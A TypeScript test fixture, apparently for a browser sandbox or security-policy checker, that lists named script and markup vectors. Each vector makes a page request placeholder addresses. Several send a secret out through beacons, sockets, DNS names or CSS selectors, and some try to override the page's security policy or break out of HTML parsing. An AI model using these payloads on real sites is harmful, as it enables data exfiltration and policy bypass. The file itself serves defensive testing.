/** Hostile apps that ask the network for something: by script, markup, style, workers, hints, frames. */
import { markup, script, type Vector } from "./vector.ts";

const box = (css: string): string => `<style>.b{width:99px;height:99px;display:block;${css}}</style><i class="b">x</i>`;
const link = (rel: string, more = "", address = "@URL"): string => `<link rel="${rel}" href="${address}" ${more}>`;

const scripts: Vector[] = [
  script("fetch", `fetch("@URL")`),
  script("fetch with keepalive", `fetch("@URL",{method:"POST",keepalive:true,body:"@SECRET",mode:"no-cors"})`),
  script("XMLHttpRequest", `const x=new XMLHttpRequest();x.open("GET","@URL");x.send()`),
  script("sendBeacon", `navigator.sendBeacon("@URL","@SECRET")`),
  script("EventSource", `new EventSource("@URL")`),
  script("WebSocket", `new WebSocket("ws://@HOST/@SECRET")`),
  script("WebTransport", `new WebTransport("https://@HOST/@SECRET")`),
  script("fetchLater", `fetchLater("@URL",{activateAfter:0})`),
  script("image by script", `new Image().src="@URL"`),
  script("FontFace", `new FontFace("x","url(@URL)").load()`),
  script("import of a module", `import("@URL.js")`),
  script("secret in the host name of a fetch", `fetch("http://@NAME:@PORT/")`),
  script("secret in the host name of an image", `new Image().src="http://@NAME:@PORT/"`),
  script("audio worklet", `new AudioContext().audioWorklet.addModule("@URL.js")`),
  script("paint worklet", `CSS.paintWorklet.addModule("@URL.js")`),
  script(
    "payment method manifest",
    `new PaymentRequest([{supportedMethods:"https://@HOST/@SECRET"}],{total:{label:"x",amount:{currency:"USD",value:"1"}}}).canMakePayment()`,
  ),
  script("document.write and an image", `document.write("<img src=@URL>")`),
  script(
    "a policy of its own that allows all",
    `const m=document.createElement("meta");m.httpEquiv="Content-Security-Policy";m.content="default-src *";document.head.append(m);fetch("@URL")`,
  ),
  script("the policy's meta removed", `document.querySelectorAll("meta").forEach(m=>m.remove());fetch("@URL")`),
  script(
    "document.open, then a request",
    `setTimeout(()=>{document.open();document.write("<script>fetch('@URL')<\\/script>");document.close()},100)`,
  ),
];

const workers: Vector[] = [
  script("worker of a blob", `new Worker(URL.createObjectURL(new Blob(["fetch('@URL')"])))`),
  script("worker of a data address", `new Worker("data:text/javascript,fetch('@URL')")`),
  script(
    "worker of a blob that opens a socket",
    `new Worker(URL.createObjectURL(new Blob(["new WebSocket('ws://@HOST/@SECRET')"])))`,
  ),
  script(
    "worker of a blob with importScripts",
    `new Worker(URL.createObjectURL(new Blob(["importScripts('@URL.js')"])))`,
  ),
  script(
    "worker with WebTransport",
    `new Worker(URL.createObjectURL(new Blob(["new WebTransport('https://@HOST/@SECRET')"])))`,
  ),
  script(
    "module worker that imports",
    `new Worker(URL.createObjectURL(new Blob(["import '@URL.js'"],{type:"text/javascript"})),{type:"module"})`,
  ),
  script(
    "shared worker of a blob",
    `new SharedWorker(URL.createObjectURL(new Blob(["fetch('@URL')"],{type:"text/javascript"})))`,
  ),
  script(
    "worker in a worker",
    `new Worker(URL.createObjectURL(new Blob(["new Worker(URL.createObjectURL(new Blob([\\"fetch('@URL')\\"])))"])))`,
  ),
  script("worker by address", `new Worker("@URL.js")`),
  script("service worker", `navigator.serviceWorker.register("@URL.js")`),
  script(
    "worker after document.open",
    `setTimeout(()=>{document.open();document.write("<script>new Worker(URL.createObjectURL(new Blob([\\"fetch('@URL')\\"])))<\\/script>");document.close()},100)`,
  ),
];

const elements: Vector[] = [
  markup("image", `<img src="@URL">`),
  markup("image with srcset", `<img srcset="@URL 1x">`),
  markup("picture", `<picture><source srcset="@URL"><img></picture>`),
  markup("input of type image", `<input type="image" src="@URL">`),
  markup("background of a table", `<table background="@URL"><tr><td>x</table>`),
  markup("SVG image", `<svg><image href="@URL" width="9" height="9"/></svg>`),
  markup("SVG use", `<svg><use href="@URL#x"/></svg>`),
  markup(
    "SVG feImage",
    `<svg width="99" height="99"><filter id="f"><feImage href="@URL"/></filter><rect width="99" height="99" filter="url(#f)"/></svg>`,
  ),
  markup("video", `<video src="@URL" autoplay muted></video>`),
  markup("audio", `<audio src="@URL" preload="auto"></audio>`),
  markup("poster of a video", `<video poster="@URL"></video>`),
  markup(
    "track",
    `<video src="data:video/mp4,x" crossorigin><track default kind="subtitles" src="@URL"></video><script>document.querySelector("track").track.mode="showing"</script>`,
  ),
  markup("object", `<object data="@URL"></object>`),
  markup("embed", `<embed src="@URL">`),
  markup("script", `<script src="@URL.js"></script>`),
  markup("module script", `<script type="module" src="@URL.js"></script>`),
  markup(
    "import map",
    `<script type="importmap">{"imports":{"x":"@URL.js"}}</script><script type="module">import "x"</script>`,
  ),
  markup("base with a relative image", `<base href="@PLACE/"><img src="@SECRET">`),
  markup("ping of a link", `<a href="#x" ping="@URL" style="position:fixed;inset:0">x</a>`, "click"),
  markup(
    "report-uri in a policy of its own",
    `<meta http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri @URL"><img src="data:,">`,
  ),
  markup("XSLT", `<?xml-stylesheet type="text/xsl" href="@URL"?>x`),
  markup("attribution source", `<img attributionsrc="@URL" src="data:,">`),
];

const styles: Vector[] = [
  markup("CSS background", box("background:url(@URL)")),
  markup("CSS image-set", box(`background:image-set("@URL" 1x)`)),
  markup("CSS list-style", `<style>li{list-style:url(@URL)}</style><ul><li>x</ul>`),
  markup("CSS content", `<style>i::before{content:url(@URL)}</style><i>x</i>`),
  markup("CSS border-image", box("border:9px solid;border-image:url(@URL) 9")),
  markup("CSS mask", box("mask:url(@URL);background:red")),
  markup("CSS filter", box("filter:url(@URL#x)")),
  markup("CSS cursor", `<style>html{cursor:url(@URL),auto;height:100%}</style>`, "click"),
  markup("CSS shape-outside", box("float:left;shape-outside:url(@URL)")),
  markup("CSS clip-path", box("clip-path:url(@URL#x)")),
  markup("CSS import", `<style>@import "@URL.css";</style>`),
  markup("stylesheet", link("stylesheet", "", "@URL.css")),
  markup("font", `<style>@font-face{font-family:x;src:url(@URL)}body{font-family:x}</style>x`),
  markup("attribute selector", `<style>input[value^=s]{background:url(@URL)}</style><input value="secret">`),
];

const hints: Vector[] = [
  markup("link prefetch", link("prefetch")),
  ...["script", "style", "image", "font", "fetch", "audio", "video", "track", "document"].map((as) =>
    markup(`link preload of ${as}`, link("preload", `as="${as}" crossorigin`)),
  ),
  markup("link modulepreload", link("modulepreload", "", "@URL.js")),
  markup("link prerender", link("prerender")),
  markup("link compression-dictionary", link("compression-dictionary")),
  markup("link icon", link("icon")),
  markup("link manifest", link("manifest")),
  markup(
    "speculation rules: prefetch",
    `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["@URL"],"eagerness":"immediate"}]}</script>`,
  ),
  markup(
    "speculation rules: prerender",
    `<script type="speculationrules">{"prerender":[{"source":"list","urls":["@URL"],"eagerness":"immediate"}]}</script>`,
  ),
  markup("dns-prefetch", `<link rel="dns-prefetch" href="//@NAME">`),
  script(
    "dns-prefetch by script",
    `const l=document.createElement("link");l.rel="dns-prefetch";l.href="//@NAME";document.head.append(l)`,
  ),
  markup(
    "dns-prefetch allowed again",
    `<meta http-equiv="x-dns-prefetch-control" content="on"><a href="http://@NAME/">x</a>`,
  ),
  markup("preconnect to an address", link("preconnect", "", "@PLACE")),
  markup("preconnect to a name", link("preconnect", "", "http://@NAME:@PORT")),
  script(
    "preconnect by script",
    `const l=document.createElement("link");l.rel="preconnect";l.href="http://@NAME:@PORT";document.head.append(l)`,
  ),
];

const frames: Vector[] = [
  markup("frame", `<iframe src="@URL"></iframe>`),
  markup("frameset", `<frameset cols="*,*"><frame src="@URL"><frame src="@URL"></frameset>`),
  markup("frame whose host name is the secret", `<iframe src="http://@NAME:@PORT/"></iframe>`),
  markup("fenced frame", `<fencedframe src="@URL"></fencedframe><portal src="@URL"></portal>`),
  markup("frame of srcdoc that asks", `<iframe srcdoc="<script>fetch('@URL')</script>"></iframe>`),
  markup("frame of srcdoc with an image", `<iframe srcdoc="<img src='@URL'>"></iframe>`),
  markup("frame of srcdoc with a frame", `<iframe srcdoc="<iframe src='@URL'></iframe>"></iframe>`),
  markup(
    "frame of srcdoc with a hint",
    `<iframe srcdoc="<link rel=dns-prefetch href=//@NAME><link rel=preconnect href=http://@NAME:@PORT>"></iframe>`,
  ),
  markup("frame of srcdoc that goes away", `<iframe srcdoc="<script>location='@URL'</script>"></iframe>`),
  markup("frame of a data address", `<iframe src="data:text/html,<script>fetch('@URL')</script>"></iframe>`),
  markup("frame of a javascript address", `<iframe src="javascript:'<script>fetch(\\'@URL\\')<\\/script>'"></iframe>`),
  script(
    "frame of a blob",
    `const f=document.createElement("iframe");f.src=URL.createObjectURL(new Blob(["<script>fetch('@URL')<\\/script>"],{type:"text/html"}));document.body.append(f)`,
  ),
  script(
    "document of an empty frame",
    `const f=document.createElement("iframe");document.body.append(f);f.contentWindow.fetch("@URL")`,
  ),
  script(
    "frame sent away by script",
    `const f=document.createElement("iframe");document.body.append(f);f.contentWindow.location="@URL"`,
  ),
  markup(
    "object of a data address",
    `<object data="data:text/html,<script>fetch('@URL')</script>" type="text/html"></object>`,
  ),
];

const injections: Vector[] = [
  { name: "a script before everything", html: `<script>fetch("@URL")</script><!doctype html><p>x` },
  { name: "a comment that holds <head>", html: `<!-- <head> --><script>fetch("@URL")</script><html><head></head>` },
  { name: "a title that holds </head>", html: `<title><head></title><script>fetch("@URL")</script>` },
  { name: "noscript and textarea", html: `<noscript><head></noscript><textarea><head></textarea><img src="@URL">` },
  { name: "HEAD in capitals", html: `<HTML><HEAD><SCRIPT>fetch("@URL")</SCRIPT></HEAD>` },
  { name: "<head> in a script's text", html: `<script>const a="<head>";fetch("@URL")</script>` },
  {
    name: "a byte order mark and UTF-7",
    html: `\ufeff<meta charset="utf-7">+ADw-script+AD4-fetch(1)+ADw-/script+AD4-<script>fetch("@URL")</script>`,
  },
  {
    name: "a comment and a script left open",
    html: `<!--><script>fetch("@URL")</script>--></script><script><!--\nfetch("@URL")\n</script>`,
  },
  { name: "patterns of a replacement", html: `$&$\`$'<script>fetch("@URL")</script>` },
  { name: "quotes and an end of script", html: `"'></script></iframe><script>fetch("@URL")</script>` },
];

/** All of them. */
export const requestVectors: readonly Vector[] = [
  ...scripts,
  ...workers,
  ...elements,
  ...styles,
  ...hints,
  ...frames,
  ...injections,
];
